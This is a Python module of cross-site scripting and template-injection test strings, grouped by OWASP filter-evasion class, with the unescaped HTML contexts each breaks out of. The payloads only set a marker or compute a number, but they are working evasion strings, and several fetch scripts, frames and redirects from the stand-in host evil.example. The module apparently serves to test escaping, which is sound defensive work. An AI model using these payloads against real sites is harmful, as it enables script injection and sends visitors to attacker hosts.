"""Strings that would run, load, lead away or be worked out where somebody forgot to escape: a few of each class that
OWASP's cheat sheet on filter evasion names, written anew.

Whatever runs sets `__ran` on its own window and on the one around it; whatever loads or leads away asks `evil.example`;
whatever is worked out by a template comes to SUM.
"""

from __future__ import annotations

RUN = "self.__ran=1,top.__ran=1"
SUM = str(7919 * 7907)
IMG = f"<img src=data:, onerror={RUN}>"
CODED = "".join(f"&#{ord(letter)};" for letter in RUN)

EVASIONS: dict[str, tuple[str, ...]] = {
    "script tags": (
        f"<script>{RUN}</script>",
        f"<ScRiPt\n>{RUN}</sCrIpT >",
        f"<script/x>{RUN}</script/y>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f'<script src="data:text/javascript,{RUN}"></script>',
        "<script src=//evil.example/x.js></script>",
    ),
    "handlers": (
        IMG,
        f'<img/src="data:,"/onerror="{RUN}"/>',
        f"<img src=data:, onerror\t=\n{CODED}>",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"<video><source src=data:, onerror={RUN}></video>",
        f"<style onload={RUN}></style>",
    ),
    "links": (
        f'<a href="javascript:{RUN}">go</a>',
        f'<a href=" \x01java&#9;scr&NewLine;ipt&colon;{RUN}">go</a>',
        f"<a href=&#0000106avascript:{RUN}>go</a>",
        f'<a href="data:text/html,<script>{RUN}</script>">go</a>',
        f'<form action="javascript:{RUN}"><button>go</button></form>',
        f'<button form=x formaction="javascript:{RUN}">go</button><form id=x></form>',
        f"javascript:{RUN}",
    ),
    "svg and math": (
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><style><img src=x title='</style>{IMG}'>",
        f'<svg><a xlink:href="javascript:{RUN}"><text y=20>go</text></a></svg>',
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
        f'<math href="javascript:{RUN}">go</math>',
    ),
    "style": (
        "<style>@import 'https://evil.example/a.css'; * { display: none }</style>",
        "<p style='background:url(https://evil.example/p.png)'>x</p>",
        f'<p style="width:expression({RUN})">x</p>',
        "<link rel=stylesheet href=https://evil.example/l.css>",
    ),
    "out of an attribute": (
        f'" autofocus onfocus="{RUN}',
        f"' autofocus onfocus='{RUN}",
        f"x autofocus onfocus={RUN}",
        f'">{IMG}',
        f"'>{IMG}",
        f'\\"></p>{IMG}<p title="',
    ),
    "out of an element": (
        f"</title>{IMG}",
        f"</textarea>{IMG}",
        f"</style>{IMG}",
        f"<noscript><p title='</noscript>{IMG}'></noscript>",
        f"<textarea><p title='</textarea>{IMG}'>",
        f"<!--><!---->{IMG}-->",
        f"--!>{IMG}",
        f"<![CDATA[]]>{IMG}",
    ),
    "out of a script": (
        f"</script>{IMG}",
        f'";{RUN};//',
        f"';{RUN};//",
        f'"-({RUN})-"',
        f"${{{RUN}}}",
        f'<!--<script>"</script>{IMG}',
    ),
    "templates": (
        "{{7919*7907}}",
        "{{ ''.__class__.__mro__ }}{{7919*7907}}",
        "{%print(7919*7907)%}",
        "${7919*7907}#{7919*7907}<%=7919*7907%>",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
    ),
    "written in code": (
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;img src=data:, onerror={RUN}&amp;gt;",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    ),
    "strange letters": (
        f"<script\x00>{RUN}</script>",
        f"<\x00script>{RUN}</script>",
        f"<img\x0csrc=data:,\x0conerror={RUN}>",
        f"\u202e<svg/onload={RUN}>\u202c",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"<\u017fcript>{RUN}</\u017fcript>",
        f'<img src="data:,\u2028"\xa0onerror={RUN}>',
    ),
    "pages in pages": (
        f'<iframe src="javascript:{RUN}"></iframe>',
        f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
        "<iframe src=https://evil.example/frame></iframe>",
        f'<object data="data:text/html,<script>{RUN}</script>"></object>',
        "<embed src=https://evil.example/>",
        f"<frameset onload={RUN}></frameset>",
        f"<template shadowrootmode=open>{IMG}</template>",
    ),
    "leading away": (
        "<meta http-equiv=refresh content='0;url=https://evil.example/away'>",
        "<base href=https://evil.example/><img src=x>",
        "<form action=https://evil.example/><button>go</button></form>",
        "<b hx-get=https://evil.example/ hx-trigger=load>x</b>",
        f"<b data-hx-trigger=load data-hx-on::load={RUN} hx-vals='js:{{a:{RUN}}}' hx-get=/>x</b>",
    ),
}  # fmt: skip

# Where one place takes one string only: out of every kind of place at once.
ALL_AT_ONCE = (
    f"{{{{7919*7907}}}}'\"--></title></style></textarea></noscript></script><svg/onload={RUN}>{IMG}"
)

# Pages as they would be without escaping, each with the place a string of these classes breaks out of.
BARE = "<!doctype html>{}"
PLACES: dict[str, tuple[str, ...]] = dict.fromkeys(EVASIONS, (BARE,)) | {
    "out of an attribute": ('<input value="{}">', "<input value='{}'>", "<input value={}>"),
    "out of an element": (
        "<title>{}</title>",
        "<textarea>{}</textarea>",
        "<style>{}</style>",
        "<!-- {} -->",
        BARE,
    ),
    "out of a script": (
        '<script>var a = "{}"</script>',
        "<script>var a = '{}'</script>",
        "<script>var a = `{}`</script>",
    ),
}
# What a browser does by itself where nothing is escaped: of these classes something runs, of the others a request leaves.
RUNS = set(EVASIONS) - {"templates", "written in code", "style", "leading away"}
LOADS = {"/x.js", "/a.css", "/p.png", "/l.css", "/frame", "/away"}
